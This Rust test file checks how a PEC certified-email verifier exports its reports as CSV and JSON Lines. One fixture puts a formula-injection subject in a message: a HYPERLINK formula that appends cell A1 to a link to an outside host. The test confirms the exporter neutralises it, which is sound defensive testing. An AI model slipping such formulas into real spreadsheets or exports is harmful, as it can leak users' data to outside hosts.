//! Many files as one table: the CSV a clerk opens in a spreadsheet and the JSON Lines an
//! archive reads, read back with a CSV reader and a JSON parser, as their users would.

mod support;

use pec::Report;
use pec::dossier::table::{COLUMNS, csv, json_lines};
use pec_factory::{Failure, Kind, Message};

fn files() -> Vec<(String, Report)> {
    let mut tricky = Message::new(Kind::Accettazione);
    // Written by the sender, signed by the provider: a spreadsheet must not run it.
    tricky.facts.oggetto = "=HYPERLINK(\"https://example.com/?\"&A1, \"Apri\")".into();
    let messages = [
        ("accettazione.eml", Message::new(Kind::Accettazione).build()),
        ("manomesso.eml", Failure::ALL[0].message().build()),
        ("formula.eml", tricky.build()),
        ("vuoto.eml", Vec::new()),
    ];
    messages
        .into_iter()
        .map(|(name, bytes)| (name.to_owned(), pec::verify(&bytes, &support::options())))
        .collect()
}

fn rows(files: &[(String, Report)]) -> Vec<Vec<String>> {
    let text = csv(files.iter().map(|(n, r)| (n.as_str(), r)));
    assert!(text.ends_with("\r\n"), "RFC 4180 lines");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("a CSV record").iter().map(str::to_owned).collect())
        .collect()
}

fn cell<'a>(row: &'a [String], column: &str) -> &'a str {
    let at = COLUMNS.iter().position(|c| *c == column).expect("a column");
    &row[at]
}

#[test]
fn one_row_per_file_under_a_header_in_the_order_given() {
    let files = files();
    let rows = rows(&files);
    assert_eq!(rows[0], COLUMNS.map(str::to_owned));
    assert_eq!(rows.len(), files.len() + 1);
    let names: Vec<&str> = rows[1..].iter().map(|r| cell(r, "file")).collect();
    assert_eq!(
        names,
        [
            "accettazione.eml",
            "manomesso.eml",
            "formula.eml",
            "vuoto.eml"
        ]
    );
}

#[test]
fn each_row_says_what_the_file_is_and_why() {
    let files = files();
    let rows = rows(&files);
    let genuine = &rows[1];
    assert_eq!(cell(genuine, "standing"), "genuine");
    assert_eq!(cell(genuine, "reason"), "");
    assert_eq!(cell(genuine, "kind"), "accettazione");
    assert_eq!(cell(genuine, "sha256"), files[0].1.sha256);
    let daticert = files[0].1.messages[0].daticert.as_ref().expect("daticert");
    assert_eq!(cell(genuine, "mittente"), daticert.mittente);
    assert_eq!(cell(genuine, "identificativo"), daticert.identificativo);
    assert_eq!(
        cell(genuine, "date"),
        daticert.data.expect("a date").rfc3339()
    );
    assert_eq!(cell(genuine, "messages"), "1");

    let failed = &rows[2];
    let message = &files[1].1.messages[0];
    assert_eq!(cell(failed, "standing"), files[1].1.standing().as_str());
    assert_ne!(cell(failed, "standing"), "genuine");
    assert_eq!(
        cell(failed, "reason"),
        message.reason.expect("a reason").as_str()
    );

    let empty = &rows[4];
    assert_eq!(cell(empty, "standing"), "not-pec");
    assert_eq!(cell(empty, "reason"), "empty");
    assert_eq!(cell(empty, "messages"), "0");
}

#[test]
fn a_formula_written_by_the_sender_stays_text_in_a_spreadsheet() {
    let rows = rows(&files());
    let subject = cell(&rows[3], "oggetto");
    assert_eq!(
        subject, "'=HYPERLINK(\"https://example.com/?\"&A1, \"Apri\")",
        "quotes kept, a quote mark first"
    );
}

#[test]
fn json_lines_are_the_reports_of_pec_verify_json_one_per_line() {
    let files = files();
    let text = json_lines(files.iter().map(|(n, r)| (n.as_str(), r)));
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), files.len());
    for (line, (name, report)) in lines.iter().zip(&files) {
        assert_eq!(*line, report.to_json(name));
        let parsed: serde_json::Value = serde_json::from_str(line).expect("JSON");
        assert_eq!(parsed["file"], name.as_str());
    }
}
